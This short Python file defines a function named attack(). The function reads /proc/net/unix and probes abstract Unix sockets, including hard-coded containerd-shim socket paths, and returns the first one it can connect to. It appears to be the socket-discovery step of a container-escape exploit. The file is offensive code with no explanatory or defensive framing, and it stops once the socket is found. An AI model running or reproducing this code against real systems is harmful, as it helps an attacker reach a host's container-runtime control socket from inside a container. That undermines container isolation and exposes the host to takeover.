import socket


def attack():
    names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if "@" in line]
    for name in (*names, "@/containerd-shim/moby/shim.sock@", "@/run/containerd/s/shim"):
        try:
            out = socket.socket(socket.AF_UNIX)
            out.connect("\0" + name[1:])
            return name
        except OSError:
            pass
